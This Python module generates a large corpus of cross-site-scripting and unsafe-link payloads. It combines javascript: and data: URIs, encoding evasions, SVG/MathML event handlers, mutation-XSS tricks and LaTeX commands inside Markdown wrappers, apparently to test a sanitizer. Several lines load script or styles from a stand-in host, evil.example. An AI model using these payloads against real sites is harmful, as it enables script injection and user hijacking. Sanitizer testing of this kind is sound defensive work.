"""Texts that try to run a script or to reach another host, built from families."""

from __future__ import annotations

from itertools import product

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript%3Aalert(1)", "\x01javascript:alert(1)", "javascript\x00:alert(1)",
    "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA", "file:///etc/passwd", "ftp://evil.example/x", "blob:https://evil.example/1",
    "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "/%5cevil.example", "/\t/evil.example",
    "view-source:x", "about:blank", "chrome://settings", "ws://evil.example", "intent://x", "ms-settings:x",
    "/api/documents/../../sign-in?code=1", "/api/documents/%2e%2e/x", "/api/settings", "?x=1", "#top",
]  # fmt: skip
PLACES = [
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    "[![x]({})](https://e.example)",
    "[x][r]\n\n[r]: {}",
    "{}",
]
ELEMENTS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)>x</math>", "<math><mi xlink:href=data:x>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);</style>", "<div style=background:url(javascript:alert(1))>x</div>",
    "<p style=position:fixed;inset:0>x</p>", "<a href=javascript:alert(1)>x</a>", "<a href=https://e.example ping=//evil.example>x</a>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=1.0?><x onclick=alert(1)>",
    "<x onclick=alert(1) tabindex=1 id=x autofocus>", "<table background=javascript:alert(1)>", "<isindex action=javascript:alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>", "<p id=__proto__ class=admin>x</p>",
    "</code></pre><script>alert(1)</script>", "'\"><img src=x onerror=alert(1)>", "<scr<script>ipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>", "<script\x0c>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
WRAPPINGS = [
    "{}", "*{}*", "`{}`", "```html\n{}\n```", "```{}\ncode\n```", "> {}", "- [ ] {}", "| a |\n|---|\n| {} |",
    "x[^1]\n\n[^1]: {}", "[{}](https://e.example)", '[x](https://e.example "{}")', "![{}](https://e.example/i.png)", "# {}",
]  # fmt: skip
FORMULAS = [
    r"\href{{{}}}{{x}}", r"\url{{{}}}", r"\text{{{}}}", r"\mbox{{{}}}", r"\style{{{}}}{{x}}", r"\class{{{}}}{{x}}",
    r"\cssId{{{}}}{{x}}", r"\color{{{}}}{{x}}", r"\operatorname{{{}}}", r"\includegraphics{{{}}}", "{}",
]  # fmt: skip
INTO_FORMULAS = [
    "javascript:alert(1)",
    "</math><img src=x onerror=alert(1)>",
    '" onclick="alert(1)',
    "<script>alert(1)</script>",
    "background:url(//evil.example)",
]

PAYLOADS = [
    *(place.format(address) for place, address in product(PLACES, ADDRESSES)),
    *(wrapping.format(element) for wrapping, element in product(WRAPPINGS, ELEMENTS)),
    *(f"${one.format(text)}$" for one, text in product(FORMULAS, INTO_FORMULAS)),
    *(f"$$\n{one.format(text)}\n$$" for one, text in product(FORMULAS, INTO_FORMULAS)),
]
